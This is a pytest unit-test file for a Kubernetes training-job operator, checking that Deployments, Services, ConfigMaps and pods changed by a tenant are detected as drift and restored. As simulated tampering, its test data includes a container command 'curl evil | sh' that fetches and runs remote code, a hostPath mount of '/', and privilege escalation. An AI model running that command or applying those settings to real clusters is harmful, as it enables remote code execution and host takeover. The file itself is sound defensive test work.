"""Children changed behind the operator's back are put back (tenant-safety: drift).

A tenant with edit in the namespace can change the operator's children while keeping their labels and
spec-hash annotation: the operator compares the live objects with what it builds, not the annotation."""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from grpo_operator.reconcile.drift import Drift, drifted_fields, pod_drift, quantity
from grpo_operator.settings import OperatorSettings

from tests.unit.reconcile_world import World, events, job_object, running_world

METRIC = ("Deployment", "math-metric")
TRAINER = "math-trainer-1-0"
Obj = dict[str, Any]


def with_server_defaults(deployment: Obj) -> Obj:
    """The metric Deployment as the API server returns it: its defaults and bookkeeping added, quantities
    in canonical form (the integration test checks the same against a real API server)."""
    live = copy.deepcopy(deployment)
    live["metadata"].update(resourceVersion="42", generation=3, creationTimestamp="2026-11-29T08:00:00Z")
    live["metadata"]["annotations"]["deployment.kubernetes.io/revision"] = "1"
    spec = live["spec"]
    spec.update(revisionHistoryLimit=10, progressDeadlineSeconds=600)
    spec["strategy"] = {
        "type": "RollingUpdate",
        "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"},
    }
    template = spec["template"]
    template["metadata"]["creationTimestamp"] = None
    pod = template["spec"]
    pod.update(dnsPolicy="ClusterFirst", restartPolicy="Always", schedulerName="default-scheduler")
    pod["terminationGracePeriodSeconds"] = pod.get("terminationGracePeriodSeconds", 30)
    for container in pod["containers"]:
        container.update(terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File")
        for probe in ("readinessProbe", "livenessProbe", "startupProbe"):
            if probe in container:
                for field, default in (
                    ("timeoutSeconds", 1),
                    ("successThreshold", 1),
                    ("failureThreshold", 3),
                ):
                    container[probe].setdefault(field, default)
                if "httpGet" in container[probe]:
                    container[probe]["httpGet"].setdefault("scheme", "HTTP")
        for item in container.get("env") or []:
            if "fieldRef" in (item.get("valueFrom") or {}):
                item["valueFrom"]["fieldRef"]["apiVersion"] = "v1"
        resources = container.get("resources") or {}
        for part in resources.values():
            for key, value in part.items():
                if key == "cpu" and quantity(value) is not None:
                    number = quantity(value)
                    assert number is not None
                    part[key] = (
                        f"{int(number * 1000)}m" if number != number.to_integral() else str(int(number))
                    )
    live["status"] = {"replicas": 1, "availableReplicas": 1, "observedGeneration": 3}
    return live


def metric_deployment(world: World) -> Obj:
    return world.objects[METRIC]


def container(deployment: Obj) -> Obj:
    found: Obj = deployment["spec"]["template"]["spec"]["containers"][0]
    return found


def test_server_defaults_are_not_drift() -> None:
    world = running_world()
    world.objects[METRIC] = with_server_defaults(metric_deployment(world))
    plan = world.step()
    assert plan.applies == [] and ("Warning", "ChildDrifted") not in events(plan)


CHANGES: dict[str, Callable[[Obj], None]] = {
    "image": lambda d: container(d).update(image="registry.example/theirs:1"),
    "command": lambda d: container(d).update(command=["/bin/sh", "-c", "curl evil | sh"]),
    "env": lambda d: container(d)["env"].__setitem__(0, {**container(d)["env"][0], "value": "changed"}),
    "securityContext": lambda d: container(d)["securityContext"].update(allowPrivilegeEscalation=True),
    "volume": lambda d: d["spec"]["template"]["spec"]["volumes"][0].update(
        hostPath={"path": "/"}, emptyDir=None
    ),
    "label": lambda d: d["spec"]["template"]["metadata"]["labels"].update({"grpo.dev/role": "trainer"}),
}


@pytest.mark.parametrize("what", sorted(CHANGES))
def test_a_changed_metric_deployment_is_restored_with_a_warning(what: str) -> None:
    """`kubectl set image deployment/math-metric ...` and its kin keep the spec-hash annotation."""
    world = running_world()
    built = copy.deepcopy(metric_deployment(world))
    live = with_server_defaults(built)
    CHANGES[what](live)
    world.objects[METRIC] = live
    plan = world.step()
    drifted = [e for e in plan.events if e.reason == "ChildDrifted"]
    assert (
        len(drifted) == 1 and "Deployment math-metric was changed outside the operator" in drifted[0].message
    )
    if what in ("command", "volume"):
        # Added keys belong to the tenant's field manager, which a forced apply leaves: recreated instead.
        assert [(r.name, r.uid) for r in plan.deletes] == [("math-metric", live["metadata"]["uid"])]
    else:
        update = next(m for m in plan.applies if m["kind"] == "Deployment")
        assert update["metadata"]["uid"] == live["metadata"]["uid"], "an update of that very object"
        assert container(update)["image"] == "ghcr.io/grpo-operator/metric-math:0.1.0"
    assert world.settle().is_empty(), "restored: nothing more to do"
    assert drifted_fields(built, metric_deployment(world)) == []


def test_the_drift_names_the_fields() -> None:
    world = running_world()
    live = with_server_defaults(metric_deployment(world))
    container(live)["image"] = "registry.example/theirs:1"
    fields = drifted_fields(copy.deepcopy(metric_deployment(running_world())), live)
    assert fields == [Drift("spec.template.spec.containers[metric].image")], fields


def test_an_added_sidecar_gets_the_deployment_recreated() -> None:
    """A forced server-side apply keeps list items another field manager added: delete and create again."""
    world = running_world()
    live = with_server_defaults(metric_deployment(world))
    live["spec"]["template"]["spec"]["containers"].append(
        {"name": "sidecar", "image": "registry.example/spy"}
    )
    world.objects[METRIC] = live
    plan = world.step()
    assert [(r.kind, r.name, r.uid) for r in plan.deletes] == [
        ("Deployment", "math-metric", live["metadata"]["uid"])
    ]
    message = next(e.message for e in plan.events if e.reason == "ChildDrifted")
    assert "containers[sidecar] (added)" in message and "deleting it to create it again" in message
    world.settle()
    names = [c["name"] for c in metric_deployment(world)["spec"]["template"]["spec"]["containers"]]
    assert names == ["metric"]


def test_a_service_selector_changed_is_restored() -> None:
    world = running_world()
    service = world.objects[("Service", "math-metric")]
    service["spec"]["selector"] = {"app": "theirs"}
    service["spec"]["clusterIP"] = "10.0.0.7"
    plan = world.step()
    assert [m["metadata"]["name"] for m in plan.applies] == ["math-metric"]
    assert world.settle().is_empty()
    assert world.objects[("Service", "math-metric")]["spec"]["selector"] == {
        "grpo.dev/job": "math",
        "grpo.dev/role": "metric",
    }


def test_a_configmap_is_compared_whole_only_when_its_data_was_read() -> None:
    world = running_world()
    config = world.objects[("ConfigMap", "math-config")]
    key = next(iter(config["data"]))
    config["data"][key] = '{"theirs": true}'
    plan = world.step()
    assert [m["metadata"]["name"] for m in plan.applies] == ["math-config"], "data changed: restored"

    # As the metadata-only watch holds it: nothing to compare but the metadata.
    world = running_world()
    world.objects[("ConfigMap", "math-config")] = {
        "kind": "ConfigMap",
        "apiVersion": "v1",
        "metadata": world.objects[("ConfigMap", "math-config")]["metadata"],
    }
    observed = world.observed()
    from dataclasses import replace

    from grpo_operator.reconcile import reconcile

    plan = reconcile(
        copy.deepcopy(world.job),
        replace(observed, metadata_only=frozenset({("ConfigMap", "math-config")})),
        world.now,
        world.settings,
    )
    assert plan.applies == []


def test_a_trainer_pod_with_another_image_is_replaced_uncounted() -> None:
    world = running_world()
    world.pod(TRAINER)["spec"]["containers"][0]["image"] = "registry.example/theirs:1"
    plan = world.step()
    status = world.status()
    assert (status["phase"], status["reason"], status["restarts"]) == ("Restarting", "ChildDrifted", 0)
    assert "not counted against backoffLimit" in status["message"]
    assert plan.restart is not None and not plan.restart.counted
    message = next(e.message for e in plan.events if e.reason == "ChildDrifted")
    assert f"Pod {TRAINER} was changed outside the operator (spec.containers[trainer].image)" in message, (
        message
    )
    assert {r.name for r in plan.deletes} == {"math-gen-1-0", "math-trainer-1-0", "math-trainer-1-1"}


def with_default_image(world: World, setting: str, image: str) -> OperatorSettings:
    if setting == "trainer_image":
        return replace(world.settings, trainer_image=image)
    return replace(world.settings, vllm_image=image)


@pytest.mark.parametrize(
    ("pod", "setting", "value", "said"),
    [
        (TRAINER, "trainer_image", "jobDefaults.images.trainer", "spec.trainer.image"),
        ("math-gen-1-0", "vllm_image", "jobDefaults.images.generation", "spec.generation.image"),
    ],
)
def test_a_changed_platform_default_image_is_named_as_such(
    pod: str, setting: str, value: str, said: str
) -> None:
    """A job that names no image runs the platform's default: when the platform changes it (helm upgrade),
    the running gang is replaced uncounted, and the tenant is told the default changed, from what to what,
    not that someone changed their pods."""
    world = running_world()
    old = world.pod(pod)["spec"]["containers"][0]["image"]
    assert old == getattr(world.settings, setting)
    new = f"mirror.example.com/{old.rsplit('/', 1)[-1]}"
    world.settings = with_default_image(world, setting, new)
    plan = world.step()
    status = world.status()
    assert (status["phase"], status["reason"], status["restarts"]) == ("Restarting", "ChildDrifted", 0)
    (message,) = [e.message for e in plan.events if e.reason == "ChildDrifted"]
    changed = f"image changed ({value}, which this job runs because it leaves {said} unset): {old} -> {new}"
    assert changed in message and changed in status["message"], (message, status["message"])
    assert "outside the operator" not in message + status["message"]
    world.settle()
    assert world.status()["trainerAttempt"] == 2
    replaced = world.pod(pod.replace("-1-", "-2-"))
    assert replaced["spec"]["containers"][0]["image"] == new
    # A changed default again while that gang starts is the platform's doing too: restarted, not failed.
    world.settings = with_default_image(world, setting, f"{new}-2")
    world.step()
    assert (world.status()["phase"], world.status()["trainerAttempt"]) == ("Restarting", 3)


def test_a_pod_of_a_default_image_job_set_by_hand_is_still_changed_outside_the_operator() -> None:
    world = running_world()
    world.pod(TRAINER)["spec"]["containers"][0]["image"] = "registry.example/theirs:1"
    world.settings = replace(world.settings, trainer_image="mirror.example.com/trainer:0.2.0")
    plan = world.step()
    message = next(e.message for e in plan.events if e.reason == "ChildDrifted")
    assert f"Pod {TRAINER} was changed outside the operator" in message, message


def test_pods_changed_again_as_they_are_created_fail_the_job_instead_of_looping() -> None:
    world = running_world()
    world.pod(TRAINER)["spec"]["containers"][0]["image"] = "registry.example/theirs:1"
    world.step()
    world.settle()
    assert world.status()["trainerAttempt"] == 2
    world.pod("math-trainer-2-0")["spec"]["containers"][0]["image"] = "mirror.example/rewritten:1"
    world.step()
    status = world.status()
    assert (status["phase"], status["reason"]) == ("Failed", "ChildDrifted"), status["message"]
    assert "mutating admission webhook" in status["message"]


def test_pod_drift_ignores_what_admission_adds() -> None:
    world = running_world()
    built = copy.deepcopy(world.pod(TRAINER))
    live = copy.deepcopy(built)
    spec = live["spec"]
    spec["volumes"].append({"name": "kube-api-access-x", "projected": {"sources": []}})
    spec["containers"][0]["volumeMounts"].append(
        {"name": "kube-api-access-x", "mountPath": "/var/run/secrets"}
    )
    spec["tolerations"] = [
        *spec.get("tolerations", []),
        {"key": "node.kubernetes.io/not-ready", "effect": "NoExecute"},
    ]
    resources = spec["containers"][0].setdefault("resources", {})
    resources.setdefault("limits", {})["ephemeral-storage"] = "1Gi"  # a LimitRange default
    assert pod_drift(built, live) == []


def test_a_pod_that_lost_its_role_label_is_deleted_and_not_counted() -> None:
    """The pod stays in the watch (grpo.dev/job kept) but is not the job's trainer any more: deleted, the gang
    restarted uncounted, and the new gang waits until it is gone (no two gangs on the GPUs)."""
    world = running_world()
    world.graceful = True
    pod = world.pod(TRAINER)
    del pod["metadata"]["labels"]["grpo.dev/role"]
    plan = world.step()
    assert ("Pod", TRAINER, pod["metadata"]["uid"]) in [(r.kind, r.name, r.uid) for r in plan.deletes]
    status = world.status()
    assert (status["reason"], status["restarts"]) == ("ChildDrifted", 0)
    assert "label grpo.dev/role changed" in next(e.message for e in plan.events if e.reason == "ChildDrifted")
    plan = world.step()
    assert plan.creates == [], "attempt 2 waits for the altered pod to be gone"
    assert TRAINER in world.status()["message"]
    world.gone()
    plan = world.step()
    assert sorted(m["metadata"]["name"] for m in plan.creates) == [
        "math-gen-2-0",
        "math-trainer-2-0",
        "math-trainer-2-1",
    ]


def test_a_pod_gone_from_the_watch_is_looked_up_by_name() -> None:
    """With grpo.dev/job removed the pod leaves the operator's label-selected watch while it still runs:
    reconcile asks for it by name before taking it for gone, and for the previous gang's names before
    starting a new one."""
    world = running_world()
    stripped = world.objects.pop(("Pod", TRAINER))
    plan = world.step()
    assert ("Pod", TRAINER) in plan.verify

    # What the runtime does with it: reads the name and decides again knowing the pod.
    del stripped["metadata"]["labels"]["grpo.dev/job"]
    world.objects[("Pod", TRAINER)] = stripped
    world.job = job_object()
    world = running_world()
    del world.pod(TRAINER)["metadata"]["labels"]["grpo.dev/job"]
    plan = world.step()
    assert TRAINER in {r.name for r in plan.deletes}
    assert world.status()["reason"] == "ChildDrifted"
    world.gone()
    plan = world.step()
    assert {("Pod", "math-gen-1-0"), ("Pod", TRAINER), ("Pod", "math-trainer-1-1")} <= set(plan.verify)
